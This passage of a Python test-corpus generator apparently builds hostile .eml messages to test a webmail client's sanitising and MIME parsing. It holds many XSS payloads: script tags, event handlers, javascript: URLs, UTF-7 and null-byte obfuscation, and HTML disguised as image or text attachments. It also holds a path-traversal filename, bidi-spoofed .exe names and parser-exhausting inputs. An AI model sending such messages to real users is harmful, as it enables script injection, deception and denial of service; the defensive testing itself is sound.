        _attachment("image/png", "chart.png", c.svg_script_doc.encode()),
    ), True


def _svg_declared(c):
    html = _page(f"<p>{c.token} see the drawing</p>")
    return _with_attachment(
        c,
        "svg attachment with script",
        html,
        _attachment("image/svg+xml", "drawing.svg", c.svg_script_doc.encode()),
    ), True


def _svg_inline_disposition(c):
    html = _page(f"<p>{c.token} see the inline drawing</p>")
    return _with_attachment(
        c,
        "svg attachment inline",
        html,
        _attachment("image/svg+xml", "inline.svg", c.svg_script_doc.encode(), disposition="inline"),
    ), True


def _xml_as_text(c):
    xml = (
        '<?xml version="1.0"?>\n'
        '<?xml-stylesheet type="text/xsl" href="' + c.url("stylesheet.xsl") + '"?>\n'
        '<html xmlns="http://www.w3.org/1999/xhtml"><body>'
        f"<script>{c.js}</script><p>{c.token}</p></body></html>\n"
    )
    html = _page(f"<p>{c.token} see the notes</p>")
    return _with_attachment(
        c, "xml sent as text", html, _attachment("text/plain", "notes.txt", xml.encode())
    ), True


def _html_as_text(c):
    html = _page(f"<p>{c.token} see the readme</p>")
    return _with_attachment(
        c,
        "html sent as text",
        html,
        _attachment("text/plain", "readme.txt", c.html_script_doc.encode()),
    ), True


def _html_declared(c):
    html = _page(f"<p>{c.token} see the invoice</p>")
    return _with_attachment(
        c,
        "html attachment",
        html,
        _attachment("text/html", "invoice.html", c.html_script_doc.encode()),
    ), True


def _xhtml_as_octet(c):
    xhtml = (
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{c.js}</script></body></html>'
    )
    html = _page(f"<p>{c.token} see the scan</p>")
    return _with_attachment(
        c,
        "xhtml sent as octet-stream",
        html,
        _attachment("application/octet-stream", "scan.jpg", xhtml.encode()),
        _attachment("application/xhtml+xml", "page.xhtml", xhtml.encode()),
    ), True


def _html_as_cid_image(c):
    html = _part(
        "text/html; charset=utf-8",
        _page(f'<p>{c.token} cid html</p><img src="cid:logo@{c.token.lower()}">'),
    )
    fake = _part(
        "image/gif",
        ("base64", _base64_lines(c.html_script_doc.encode())),
        extra=[
            f"Content-ID: <logo@{c.token.lower()}>",
            'Content-Disposition: inline; filename="logo.gif"',
        ],
    )
    return _headers(c, "html sent as cid image").encode() + _multipart(
        "related", f"=_rel_{c.token}", [html, fake]
    ), True


def _no_type_attachment(c):
    html = _part("text/html; charset=utf-8", _page(f"<p>{c.token} untyped part</p>"))
    untyped = (
        b'Content-Disposition: attachment; filename="page.htm"\r\n'
        b"Content-Transfer-Encoding: 7bit\r\n\r\n" + _crlf(c.html_script_doc).encode()
    )
    return _headers(c, "attachment without a type").encode() + _multipart(
        "mixed", f"=_mixed_{c.token}", [html, untyped]
    ), True


def _subject_markup(c):
    title = f'<script>{c.js}</script><img src=x onerror="{c.js}"> &lt;b&gt; {{{{7*7}}}}'
    html = _page(f"<p>{c.token} subject with markup</p>")
    return _html_mail(c, title, html), False


def _subject_encoded_markup(c):
    markup = f'<img src=x onerror="{c.js}">Ünïcödé <b>bold</b>'
    title = _encoded_word(markup)
    return _html_mail(c, title, _page(f"<p>{c.token} encoded subject</p>")), False


def _subject_split_markup(c):
    """Markup split over many encoded words: only the fully decoded subject shows it."""
    markup = f'<svg onload="{c.js}"><script>{c.js}</script>'
    words = [_encoded_word(markup[i : i + 3], "Q") for i in range(0, len(markup), 3)]
    title = "\r\n ".join(words)
    return _html_mail(c, title, _page(f"<p>{c.token} split subject</p>")), False


def _sender_markup(c):
    sender = f'"<img src=x onerror=\\"{c.js}\\">" <evil@example.com>'
    extra = [
        f'Reply-To: "<script>{c.js}</script>" <reply@example.com>',
        f'Cc: "<b onmouseover=\\"{c.js}\\">cc</b>" <cc@example.com>',
    ]
    return _html_mail(
        c,
        "sender name with markup",
        _page(f"<p>{c.token} sender</p>"),
        sender=sender,
        extra=extra,
    ), False


def _sender_encoded_markup(c):
    name = _encoded_word(f'<svg onload="{c.js}">Müller', "Q")
    sender = f"{name} <evil@example.com>"
    return _html_mail(
        c, "encoded sender with markup", _page(f"<p>{c.token} sender</p>"), sender=sender
    ), False


def _filename_markup(c):
    html = _page(f"<p>{c.token} attachment names</p>")
    evil = f'<img src=x onerror="{c.js}">.txt'
    quoted = evil.replace("\\", "\\\\").replace('"', '\\"')
    plain = _part(
        f'text/plain; name="{quoted}"',
        f"{c.token} one\n",
        extra=[f'Content-Disposition: attachment; filename="{quoted}"'],
    )
    rfc2231 = _part(
        "text/plain",
        f"{c.token} two\n",
        extra=[
            "Content-Disposition: attachment; filename*=utf-8''"
            + urllib.parse.quote(f"<script>{c.js}</script>\u202egnp.exe", safe="")
        ],
    )
    encoded = _part(
        "text/plain",
        f"{c.token} three\n",
        extra=[f'Content-Disposition: attachment; filename="{_encoded_word("<b>x</b>.txt")}"'],
    )
    traversal = _part(
        "text/plain",
        f"{c.token} four\n",
        extra=['Content-Disposition: attachment; filename="../../../etc/passwd\r\n\tx.txt"'],
    )
    return _headers(c, "attachment names with markup").encode() + _multipart(
        "mixed",
        f"=_mixed_{c.token}",
        [_part("text/html; charset=utf-8", html), plain, rfc2231, encoded, traversal],
    ), True


def _bidi_and_invisible(c):
    title = "invoice\u202egnp.exe \u200b\u200d\ufeff <b>zero\u2028width</b>"
    return _html_mail(c, _encoded_word(title), _page(f"<p>{c.token} bidi</p>")), False


def _header_ids_markup(c):
    extra = [
        f'In-Reply-To: <"><script>{c.js}</script>@example.com>',
        f"References: <a@b> <\"><img src=x onerror='{c.js}'>@x>",
        f"List-Unsubscribe: <{c.js_url}>, <{c.url('unsubscribe')}>",
        f"X-Mailer: <script>{c.js}</script>",
    ]
    return _html_mail(
        c, "ids and list headers with markup", _page(f"<p>{c.token} ids</p>"), extra=extra
    ), False


def _date_markup(c):
    raw = _html_mail(c, "date with markup", _page(f"<p>{c.token} date</p>"))
    return raw.replace(
        f"Date: {DATE}".encode(), f"Date: <script>{c.js}</script>".encode(), 1
    ), False


def _date_beyond(date):
    """A Date that Python cannot place in every time zone (within a day of the end of its
    calendar) or whose zone is no zone (24 hours): listed and opened without a date."""

    def build(c):
        raw = _html_mail(c, "date beyond the calendar", _page(f"<p>{c.token} date</p>"))
        return raw.replace(f"Date: {DATE}".encode(), f"Date: {date}".encode(), 1), False

    return build


def _unknown_charset(c):
    body = _crlf(_page(f"<p>{c.token} unknown charset \xe4\xf6\xfc</p><script>{c.js}</script>"))
    return _headers(c, "unknown charset").encode() + (
        b'Content-Type: text/html; charset="x-hostile-unknown"\r\n'
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + body.encode("latin-1")
    ), False


def _utf7_charset(c):
    body = (
        f"<p>{c.token} utf-7</p>"
        f"+ADw-script+AD4-alert('{c.token}')+ADw-/script+AD4-"
        f"+ADw-img src=x onerror=alert('{c.token}')+AD4-"
    )
    return _headers(c, "utf-7 charset").encode() + _part("text/html; charset=utf-7", body), False


def _unknown_charset_words(c):
    words = (
        "=?x-hostile?B?PHNjcmlwdD4=?=",
        "=?utf-8?X?broken?=",
        "=?utf-8?B?not base64!?=",
        "=?utf-8?Q?=FF=FE=3Cb=3E?=",
        "=?iso-8859-1?Q?caf=E9?=",
        "=??B??=",
        "=?utf-8*en?Q?lang?=",
    )
    title = " ".join(words)
    return _html_mail(c, title, _page(f"<p>{c.token} words</p>")), False


def _thousands_of_words(c):
    words = [_encoded_word(f"ä{index}", "B" if index % 2 else "Q") for index in range(4000)]
    title = "\r\n ".join(words)
    return _html_mail(c, title, _page(f"<p>{c.token} many words</p>")), False


def _many_words_sender(c):
    words = [_encoded_word(f"<{index}>") for index in range(2000)]
    sender = "\r\n ".join(words) + " <many@example.com>"
    return _html_mail(
        c, "sender of many words", _page(f"<p>{c.token} sender</p>"), sender=sender
    ), False


def _huge_folded_header(c):
    chunk = "A" * 70
    value = "\r\n ".join([chunk] * 7000)  # about 500 KB
    return _html_mail(
        c,
        "huge folded header",
        _page(f"<p>{c.token} huge</p>"),
        extra=[f"X-Hostile-Huge: {value}"],
    ), False


def _huge_subject_line(c):
    title = "<b>" + "S" * 60000 + "</b>"
    return _html_mail(c, title, _page(f"<p>{c.token} long subject</p>")), False


def _many_header_fields(c):
    extra = [f"X-Hostile-{index}: <script>{index}</script>" for index in range(5000)]
    extra += [f"Received: from h{index}.example by mx.example; {DATE}" for index in range(500)]
    return _html_mail(c, "many header fields", _page(f"<p>{c.token} many</p>"), extra=extra), False


def _duplicate_headers(c):
    extra = [
        f"Subject: {c.token} second subject <script>x</script>",
        'From: "second" <second@example.com>',
        "Content-Type: text/plain",
        "Content-Type: image/png",
    ]
    return _html_mail(
        c,
        "duplicate headers",
        _page(f"<p>{c.token} duplicates</p><script>{c.js}</script>"),
        extra=extra,
    ), False


def _deep_multipart(c):
    depth = 300
    inner = _part(
        "text/html; charset=utf-8", _page(f"<p>{c.token} deep</p><script>{c.js}</script>")
    )
    for level in range(depth):
        inner = _multipart("mixed", f"=_d{level}_{c.token}", [inner])
    return _headers(c, "deeply nested multipart").encode() + inner, False


def _deep_rfc822(c):
    inner = _headers(c, "innermost").encode() + _part(
        "text/html; charset=utf-8", _page(f"<script>{c.js}</script>")
    )
    for _level in range(60):
        inner = _headers(c, "nested message").encode() + _part("message/rfc822", ("7bit", inner))
    return inner, False  # beyond the depth limit: opens with its source, lists no file


def _forwarded_hostile(c):
    inner = _headers(c, "inner <script>x</script>").encode() + _part(
        "text/html; charset=utf-8",
        _page(f'<script>{c.js}</script><img src="{c.url("inner-pixel.gif")}">'),
    )
    outer = _part("text/plain; charset=utf-8", f"{c.token} forwarded below\n")
    attached = _part(
        "message/rfc822",
        ("7bit", inner),
        extra=['Content-Disposition: attachment; filename="forwarded.eml"'],
    )
    return _headers(c, "forwarded hostile message").encode() + _multipart(
        "mixed", f"=_fwd_{c.token}", [outer, attached]
    ), True


def _many_parts(c):
    parts = [_part("text/html; charset=utf-8", _page(f"<p>{c.token} many parts</p>"))]
    parts += [
        _part(
            f'text/plain; name="part{index}.txt"',
            f"{index}\n",
            extra=[f'Content-Disposition: attachment; filename="part{index}.txt"'],
        )
        for index in range(2000)
    ]
    return _headers(c, "two thousand parts").encode() + _multipart(
        "mixed", f"=_many_{c.token}", parts
    ), False  # beyond the part limit: opens with its source


def _no_boundary(c):
    body = _crlf(f"--x\nContent-Type: text/html\n\n<script>{c.js}</script>\n--x--\n")
    return _headers(c, "multipart without boundary").encode() + (
        b"Content-Type: multipart/mixed\r\n\r\n" + body.encode()
    ), False


def _unclosed_boundary(c):
    body = _crlf(
        "--b1\nContent-Type: text/html\n\n"
        f"<p>{c.token} unclosed</p><script>{c.js}</script>\n"
        "--b1\nContent-Type: multipart/alternative; boundary=b2\n\n--b2\n"
        "Content-Type: text/plain\n\ncut off here"
    )
    return _headers(c, "boundary never closed").encode() + (
        b'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n' + body.encode()
    ), False


def _garbage_content_type(c):
    body = _crlf(_page(f"<p>{c.token} garbage type</p><script>{c.js}</script>"))
    return _headers(c, "garbage content type").encode() + (
        b'Content-Type: ;;;;===;; charset="\r\n'
        b"Content-Transfer-Encoding: x-unknown-encoding\r\n\r\n" + body.encode()
    ), True  # no text/* type survives: the body is listed as a file


def _bad_base64(c):
    return _headers(c, "broken base64").encode() + (
        b"Content-Type: text/html; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg!!!***\r\n%%%%====\r\nPGI+\r\n"
    ), False


def _bad_quoted_printable(c):
    return _headers(c, "broken quoted-printable").encode() + (
        b"Content-Type: text/html; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: quoted-printable\r\n\r\n"
        b"=3Cscript=3Ealert(1)=3C/script=3E =ZZ =\r\n=3"
        + f"C{c.token}=\r\n=3Cimg src=3Dx onerror=3Dalert(1)=3E=".encode()
    ), False


def _nul_and_binary(c):
    return _headers(c, "nul bytes and binary").encode() + (
        b"Content-Type: text/html; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: binary\r\n\r\n"
        + f"<p>{c.token}</p><scr\x00ipt>{c.js}</scr\x00ipt>".encode()
        + b"\x00\x01\x02\xff\xfe<img src=x o\x00nerror=alert(1)>\r\n"
    ), False


def _invalid_utf8(c):
    return _headers(c, "invalid utf-8").encode() + (
        b"Content-Type: text/html; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n"
        + f"<p>{c.token}</p>".encode()
        + b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe \xed\xa0\x80 \xf8\x88\x80\x80\x80"
        + b"<img src=x \xe0\x80\xbconerror=alert(1)>\r\n"
    ), False


def _raw_8bit_headers(c):
    raw = _html_mail(c, "8bit headers", _page(f"<p>{c.token} 8bit</p>"))
    return raw.replace(
        b"To: Victim <victim@example.com>",
        b"To: \xff\xfe<script>\xe4</script> <victim@example.com>\r\nX-Latin: caf\xe9 \xc0\xbc",
        1,
    ), False


def _headers_only(c):
    return _headers(c, "headers without a body").encode(), False


def _no_header_separator(c):
    return (
        _headers(c, "no blank line after headers").encode()
        + f"<script>{c.js}</script> this line is no header\r\nneither: is <this>\r\n".encode()
    ), False


def _long_body_line(c):
    text = f"{c.token} " + "x" * 300000 + f"<script>{c.js}</script>"
    return _headers(c, "one very long line").encode() + (
        b"Content-Type: text/html; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + text.encode() + b"\r\n"
    ), False


def _deep_html(c):
    html = "<div>" * 20000 + f"<p>{c.token} deep html</p><script>{c.js}</script>" + "</div>" * 20000
    return _html_mail(c, "deeply nested html", _page(html)), False


def _rfc2231_continuations(c):
    segments = [
        f"filename*{index}*=utf-8''%3Cb%3E{index}"
        if index == 0
        else f"filename*{index}*=%3C{index}%3E"
        for index in range(1000)
    ]
    disposition = "Content-Disposition: attachment;\r\n " + ";\r\n ".join(segments)
    html = _page(f"<p>{c.token} continuations</p>")
    part = _part("text/plain", f"{c.token}\n", extra=[disposition])
    return _headers(c, "thousand filename continuations").encode() + _multipart(
        "mixed", f"=_cont_{c.token}", [_part("text/html; charset=utf-8", html), part]
    ), True


def _wrong_transfer_encoding(c):
    return _headers(c, "uuencoded body").encode() + (
        b"Content-Type: text/html; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: x-uuencode\r\n\r\n"
        b"begin 644 x.html\r\nM/'-C<FEP=#YA;&5R=\"@Q*3PO<V-R:7!T/@``\r\n`\r\nend\r\n"
    ), False


def _html_charset_meta(c):
    """A body whose <meta charset> disagrees with its MIME charset."""
    head = (
        '<meta charset="utf-7"><meta http-equiv="Content-Type" content="text/html; charset=utf-7">'
    )
    body = f"<p>{c.token} meta charset</p>+ADw-script+AD4-alert('{c.token}')+ADw-/script+AD4-"
    return _html_mail(c, "meta charset utf-7", _page(body, head)), False


def _backslash_words(c):
    """Backslashes beside encoded words: "\\u0041" must stay as written, "C:\\users" too."""
    title = f"C:\\users\\u0041\\x3cb\\x3e {_encoded_word('<b>Grüße</b>')} \\N{{LESS-THAN SIGN}}"
    sender = f"{_encoded_word('Müller')} \\u003cscript\\u003e <backslash@example.com>"
    return _html_mail(c, title, _page(f"<p>{c.token} backslashes</p>"), sender=sender), False


# name, kind, builder: the order fixes the tokens, so append new messages at the end.
_MESSAGES: list[tuple[str, str, Callable]] = [
    ("script-inline", "script", _script_inline),
    ("script-in-head", "script", _script_in_head),
    ("script-obfuscated-tags", "script", _script_obfuscated),
    ("script-event-handlers", "script", _event_handlers_everywhere),
    ("script-body-onload", "script", _body_onload),
    ("script-mutation-xss", "script", _noscript_mutation),
    ("script-conditional-comments", "script", _conditional_comments),
    ("script-xhtml-namespaces", "script", _xhtml_namespaces),
    ("script-handler-entities", "script", _handler_entities),
    ("script-alternative-part", "script", _alternative_hostile),
    ("url-javascript-links", "url-scheme", _javascript_links),
    ("url-vbscript-links", "url-scheme", _vbscript_links),
    ("url-data-urls", "url-scheme", _data_urls),
    ("url-javascript-images", "url-scheme", _javascript_images),
    ("url-form-actions", "url-scheme", _form_actions),
    ("url-srcset", "url-scheme", _srcset),
    ("url-svg-href", "url-scheme", _svg_links),
    ("url-mathml-href", "url-scheme", _math_links),
    ("svg-animate-href", "svg", _svg_animate_href),
    ("svg-set", "svg", _svg_set),
    ("svg-use", "svg", _svg_use),
    ("svg-foreign-object", "svg", _svg_foreign_object),
    ("svg-feimage", "svg", _svg_feimage),
    ("svg-script-handlers", "svg", _svg_script_handlers),
    ("svg-cid-image", "svg", _svg_inline_part),
    ("css-url", "css", _css_url_background),
    ("css-import", "css", _css_import),
    ("css-image-set", "css", _css_image_set),
    ("css-expression", "css", _css_expression),
    ("css-escapes", "css", _css_escapes),
    ("css-comments", "css", _css_comments),
    ("css-loading-rules", "css", _css_in_style_elements),
    ("active-meta-refresh", "active-element", _meta_refresh),
    ("active-base", "active-element", _base_href),
    ("active-form", "active-element", _form),
    ("active-iframe", "active-element", _iframes),
    ("active-object-embed", "active-element", _object_embed),
    ("active-link", "active-element", _link_elements),
    ("active-media", "active-element", _media_elements),
    ("remote-tracking-pixel", "remote", _tracking_pixel),
    ("remote-font", "remote", _css_font_face),
    ("remote-backgrounds", "remote", _remote_background),
    ("remote-url-variants", "remote", _remote_url_variants),
    ("remote-links", "remote", _remote_links_allowed),
    ("remote-plain-text", "remote", _plain_text_markup),
    ("remote-flowed-text", "remote", _flowed_text_markup),
    ("attachment-html-as-png", "misdeclared-attachment", _html_as_image),
    ("attachment-svg-as-png", "misdeclared-attachment", _svg_as_png),
    ("attachment-svg", "misdeclared-attachment", _svg_declared),
    ("attachment-svg-inline", "misdeclared-attachment", _svg_inline_disposition),
    ("attachment-xml-as-text", "misdeclared-attachment", _xml_as_text),
    ("attachment-html-as-text", "misdeclared-attachment", _html_as_text),
    ("attachment-html", "misdeclared-attachment", _html_declared),
    ("attachment-xhtml-as-octet", "misdeclared-attachment", _xhtml_as_octet),
    ("attachment-html-as-cid-gif", "misdeclared-attachment", _html_as_cid_image),
    ("attachment-untyped", "misdeclared-attachment", _no_type_attachment),
    ("header-subject-markup", "header-markup", _subject_markup),
    ("header-subject-encoded", "header-markup", _subject_encoded_markup),
    ("header-subject-split-words", "header-markup", _subject_split_markup),
    ("header-sender-markup", "header-markup", _sender_markup),
    ("header-sender-encoded", "header-markup", _sender_encoded_markup),
    ("header-filename-markup", "header-markup", _filename_markup),
    ("header-bidi-invisible", "header-markup", _bidi_and_invisible),
    ("header-ids-markup", "header-markup", _header_ids_markup),
    ("header-date-markup", "header-markup", _date_markup),
    ("mime-unknown-charset", "mime", _unknown_charset),
    ("mime-utf7-charset", "mime", _utf7_charset),
    ("mime-broken-encoded-words", "mime", _unknown_charset_words),
    ("mime-thousands-of-words", "mime", _thousands_of_words),
    ("mime-sender-many-words", "mime", _many_words_sender),
    ("mime-huge-folded-header", "mime", _huge_folded_header),
    ("mime-huge-subject-line", "mime", _huge_subject_line),
    ("mime-many-header-fields", "mime", _many_header_fields),
    ("mime-duplicate-headers", "mime", _duplicate_headers),
    ("mime-deep-multipart", "mime", _deep_multipart),
    ("mime-deep-rfc822", "mime", _deep_rfc822),
    ("mime-forwarded-hostile", "mime", _forwarded_hostile),
    ("mime-many-parts", "mime", _many_parts),
    ("mime-no-boundary", "mime", _no_boundary),
    ("mime-unclosed-boundary", "mime", _unclosed_boundary),
    ("mime-garbage-content-type", "mime", _garbage_content_type),
    ("mime-bad-base64", "mime", _bad_base64),
    ("mime-bad-quoted-printable", "mime", _bad_quoted_printable),
    ("mime-nul-binary", "mime", _nul_and_binary),
    ("mime-invalid-utf8", "mime", _invalid_utf8),
    ("mime-8bit-headers", "mime", _raw_8bit_headers),
    ("mime-headers-only", "mime", _headers_only),
    ("mime-no-header-separator", "mime", _no_header_separator),
    ("mime-long-body-line", "mime", _long_body_line),
    ("mime-deep-html", "mime", _deep_html),
    ("mime-rfc2231-continuations", "mime", _rfc2231_continuations),
    ("mime-uuencoded-body", "mime", _wrong_transfer_encoding),
    ("mime-meta-charset", "mime", _html_charset_meta),
    ("header-backslash-words", "header-markup", _backslash_words),
    ("header-date-year-10000", "mime", _date_beyond("Fri, 31 Dec 9999 23:59:59 -0100")),
    ("header-date-zone-of-24-hours", "mime", _date_beyond("Fri, 04 Dec 2026 10:00:00 +2400")),
    ("header-date-named-zone-at-the-end", "mime", _date_beyond("31 Dec 9999 23:59:59 EST")),
]


def corpus(remote_base: str = "http://remote.invalid") -> list[HostileMail]:
    """The hostile messages, in a fixed order with tokens H001, H002, ..."""
    remote_base = remote_base.rstrip("/")
    mails = []
    for index, (name, kind, build) in enumerate(_MESSAGES, start=1):
        context = _Context(token=f"H{index:03d}", remote_base=remote_base)
        raw, has_attachment = build(context)
        mails.append(
            HostileMail(
                name=name,
                kind=kind,
                token=context.token,
                raw=raw,
                has_attachment=has_attachment,
            )
        )
    return mails


def hostile_folder_names() -> list[str]:
    """Folder names that carry markup or script, for the folder tree. Full paths: those
    with "/" (the test Dovecot's delimiter) make a parent folder with markup too."""
    return [
        "<img src=x onerror=alert('F01')>",
        "<script>alert('F02')</script>",
        "\"><svg onload=alert('F03')>",
        "{{ 7+7 }} ${alert('F04')} `F04`",  # no * or %: IMAP wildcards, refused as names
        "&lt;b&gt;F05 &amp; entities&lt;/b&gt;",
        "javascript:alert('F06')",
        "F07 \u202egnp-exe Ünïcödé",  # no ".": Dovecot's Maildir++ layout refuses it
        "<b onmouseover=alert('F08')>F08</b>",
    ]


def main(argv=None):
    parser = argparse.ArgumentParser(description="Write the hostile mail corpus as .eml files.")
    parser.add_argument("outdir")
    parser.add_argument("--remote-base", default="http://remote.invalid")
    args = parser.parse_args(argv)
    os.makedirs(args.outdir, exist_ok=True)
    for mail in corpus(args.remote_base):
        path = os.path.join(args.outdir, f"{mail.token}-{mail.name}.eml")
        with open(path, "wb") as handle:
            handle.write(mail.raw)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
